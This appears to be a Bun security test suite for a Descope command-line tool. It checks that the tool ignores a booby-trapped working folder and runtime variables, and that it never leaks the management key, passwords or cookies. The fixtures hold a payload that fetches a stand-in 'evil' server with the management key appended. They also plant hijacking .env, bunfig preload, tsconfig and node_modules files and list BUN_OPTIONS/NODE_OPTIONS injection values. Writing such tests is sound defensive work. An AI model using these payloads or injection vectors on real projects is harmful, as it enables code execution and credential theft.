import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import { spawnBinary, type Spawned } from "../support/binary.ts";
import { credentials } from "../support/cli.ts";
import { temporaryFolder, type TemporaryFolder } from "../support/folder.ts";
import { scriptedServer, type ScriptedServer } from "../support/server.ts";

const KEY = credentials.DESCOPE_MANAGEMENT_KEY;

let good: ScriptedServer;
let evil: ScriptedServer;
let folder: TemporaryFolder;

/** Code that leaves a mark where it ran, and sends away what it finds. */
const code = () =>
  `require("node:fs").writeFileSync(${JSON.stringify(folder.at("ran"))}, "it ran");` +
  `fetch(${JSON.stringify(evil.url)} + "/" + process.env.DESCOPE_MANAGEMENT_KEY);`;

beforeAll(() => {
  good = scriptedServer({ "GET /v1/mgmt/tenant": { body: { id: "x", name: "Good" } } });
  evil = scriptedServer({ "*": { body: { id: "x", name: "Evil" } } });
  folder = temporaryFolder();
  const variables = [
    `DESCOPE_BASE_URL=${evil.url}`,
    "DESCOPE_PROJECT_ID=Pevil",
    "DESCOPE_MANAGEMENT_KEY=Kevil",
    `HTTP_PROXY=${evil.url}`,
    "NODE_TLS_REJECT_UNAUTHORIZED=0",
    "DESCOPE_INSECURE_SKIP_VERIFY=1",
    "BUN_CONFIG_VERBOSE_FETCH=curl",
    "",
  ].join("\n");
  for (const name of [".env", ".env.local", ".env.production", ".env.development", ".env.test"])
    folder.put(name, variables);
  const preload =
    'preload = ["./preload.ts"]\n[run]\npreload = ["./preload.ts"]\n[define]\nVERSION = "\'evil\'"\n';
  for (const name of ["bunfig.toml", ".bunfig.toml", "home/.bunfig.toml", "home/.config/.bunfig.toml"])
    folder.put(name, preload);
  for (const name of [
    "preload.ts",
    "preload.js",
    "preload.cjs",
    "node_modules/picocolors/index.js",
    "node_modules/cac/index.js",
  ])
    folder.put(name, code());
  folder.put(
    "package.json",
    '{"name":"evil","main":"./preload.js","imports":{"#x":"./preload.js"},"scripts":{"preload":"touch ran"}}',
  );
  folder.put(
    "tsconfig.json",
    '{"compilerOptions":{"baseUrl":".","paths":{"picocolors":["./preload.ts"],"*":["./preload.ts"]}}}',
  );
});

afterAll(() => {
  good[Symbol.dispose]();
  evil[Symbol.dispose]();
  folder[Symbol.dispose]();
});

async function run(args: readonly string[], env: Readonly<Record<string, string>> = {}): Promise<Spawned> {
  good.seen.length = 0;
  return spawnBinary(args, {
    cwd: folder.path,
    env: {
      ...credentials,
      HOME: folder.at("home"),
      XDG_CONFIG_HOME: folder.at("home/.config"),
      DESCOPE_BASE_URL: good.url,
      ...env,
    },
  });
}

function nothingHappened(ran: Spawned): void {
  expect(folder.contents()).not.toHaveProperty("ran");
  expect(evil.seen.map(({ path }) => path)).toEqual([]);
  expect(ran.out).not.toContain(KEY);
  expect(ran.err).not.toContain(KEY);
}

const load = ["tenant", "load", "x"];

describe("nothing of the current folder is read", () => {
  test("a command goes where the environment says, with the key that it says", async () => {
    const ran = await run([...load, "--json"]);
    nothingHappened(ran);
    expect(ran.err).toBe("");
    expect(JSON.parse(ran.out)).toMatchObject({ tenant: { name: "Good" } });
    expect(good.seen.map(({ authorization }) => authorization)).toEqual([
      `Bearer ${credentials.DESCOPE_PROJECT_ID}:${KEY}`,
    ]);
  });

  test("variables that are not set stay so", async () => {
    for (const missing of ["DESCOPE_MANAGEMENT_KEY", "DESCOPE_PROJECT_ID"]) {
      const ran = await run([...load, "--json"], { [missing]: "" });
      nothingHappened(ran);
      expect(ran.status).toBe(1);
      expect(JSON.parse(ran.out)).toMatchObject({ error: expect.stringContaining(`${missing} is not set`) });
    }
  });

  test("help, the version and colours are the program's own", async () => {
    for (const args of [["--version"], ["--help"], ["tenant", "load", "--help"], ["nope"]]) {
      const ran = await run(args, { FORCE_COLOR: "1", NO_COLOR: "" });
      nothingHappened(ran);
      expect(ran.out).not.toContain("evil");
      expect(ran.status).toBe(args[0] === "nope" ? 1 : 0);
    }
  });

  test("NODE_ENV does not choose a file of variables", async () => {
    for (const NODE_ENV of ["production", "development", "test"]) {
      const ran = await run([...load, "--json"], { NODE_ENV });
      nothingHappened(ran);
      expect(JSON.parse(ran.out)).toMatchObject({ tenant: { name: "Good" } });
    }
  });
});

describe("no variable of the runtime makes the program run something else or tell its key", () => {
  for (const [name, content] of [
    ["BUN_CONFIG_VERBOSE_FETCH", "curl"],
    ["BUN_CONFIG_VERBOSE_FETCH", "1"],
    ["BUN_CONFIG_VERBOSE_FETCH", "true"],
    ["BUN_OPTIONS", "--env-file=.env"],
    ["BUN_OPTIONS", "--eval 'console.log(process.env)'"],
    ["NODE_OPTIONS", "--require ./preload.cjs"],
    ["NODE_OPTIONS", "--import ./preload.js"],
    ["NODE_DEBUG", "http,fetch,net,tls"],
    ["BUN_DEBUG", "1"],
    ["DEBUG", "*"],
    ["NODE_PATH", "."],
    ["BUN_INSTALL", "."],
  ] as const) {
    test(`${name}=${content}: the command does its work`, async () => {
      const ran = await run([...load, "--json", "--debug"], { [name]: content });
      nothingHappened(ran);
      expect(ran.status).toBe(0);
      expect(JSON.parse(ran.out)).toMatchObject({ tenant: { name: "Good" } });
      expect(good.seen.length).toBe(1);
      // What --debug shows, and nothing else.
      expect(ran.err.split("\n").filter((line) => line !== "" && !/^(>|<|  repeated)/.test(line))).toEqual(
        [],
      );
    });
  }

  for (const [name, content] of [
    ["BUN_OPTIONS", "--preload=./preload.ts"],
    ["BUN_OPTIONS", "--require ./preload.cjs"],
    ["BUN_OPTIONS", "--import ./preload.js"],
    ["BUN_OPTIONS", "--config=bunfig.toml"],
    ["BUN_OPTIONS", "-c bunfig.toml"],
    ["BUN_INSPECT", "ws://127.0.0.1:0/x?wait=1"],
    ["BUN_INSPECT_PRELOAD", "./preload.ts"],
    ["BUN_INSPECT_CONNECT_TO", "ws://127.0.0.1:1/x"],
    ["BUN_INSPECT_NOTIFY", "ws://127.0.0.1:1/x"],
  ] as const) {
    test(`${name}=${content}: refused, or without effect`, async () => {
      const ran = await run([...load, "--json"], { [name]: content });
      nothingHappened(ran);
      expect([0, 1]).toContain(ran.status ?? -1);
      expect(good.seen.length).toBe(ran.status === 0 ? 1 : 0);
    });
  }
});

describe("the key is never told", () => {
  test("--debug shows the request and the reply without it", async () => {
    const ran = await run([...load, "--debug"]);
    nothingHappened(ran);
    expect(ran.err).toContain("> GET ");
    expect(ran.err).toContain("> authorization: Bearer ");
    expect(ran.err).toContain("< 200");
  });

  test("nor does --debug of a password, a cleartext or a cookie", async () => {
    using server = scriptedServer({
      "POST /v1/mgmt/user/password/set/active": { body: {}, headers: { "set-cookie": "DS=c00kie-value" } },
      "POST /v1/mgmt/accesskey/create": { body: { cleartext: "cl3ar-text", key: { id: "AK1", name: "ci" } } },
    });
    const env = { DESCOPE_BASE_URL: server.url };
    const set = await run(["user", "password", "set-active", "ann", "p4ss word&ü", "--debug"], env);
    expect(set.status).toBe(0);
    expect(set.err).not.toContain("p4ss");
    expect(set.err).not.toContain("c00kie");
    const create = await run(["access-key", "create", "ci", "--debug"], env);
    expect(create.status).toBe(0);
    expect(create.err).not.toContain("cl3ar-text");
    expect(create.out).toContain("cl3ar-text");
  });

  test("a server that repeats it in an error does not get it shown", async () => {
    const echo = Bun.serve({
      port: 0,
      hostname: "127.0.0.1",
      fetch: (request) =>
        Response.json(
          { errorCode: "E1", errorDescription: `bad ${request.headers.get("authorization")}` },
          { status: 401 },
        ),
    });
    for (const more of [[], ["--json"], ["--debug"]]) {
      const ran = await run([...load, ...more], { DESCOPE_BASE_URL: `http://127.0.0.1:${echo.port}` });
      expect(ran.status).toBe(1);
      nothingHappened(ran);
    }
    await echo.stop(true);
  });

  test("a key that is none is refused without being repeated", async () => {
    for (const wrong of [
      "secret-that-is-no-key",
      "K\u0001secret-that-is-no-key",
      "Kschlüssel-secret-that-is-no-key",
    ]) {
      const ran = await run([...load, "--json"], { DESCOPE_MANAGEMENT_KEY: wrong });
      expect(ran.status).toBe(1);
      expect(ran.out + ran.err).not.toContain("secret-that-is-no-key");
    }
  });
});
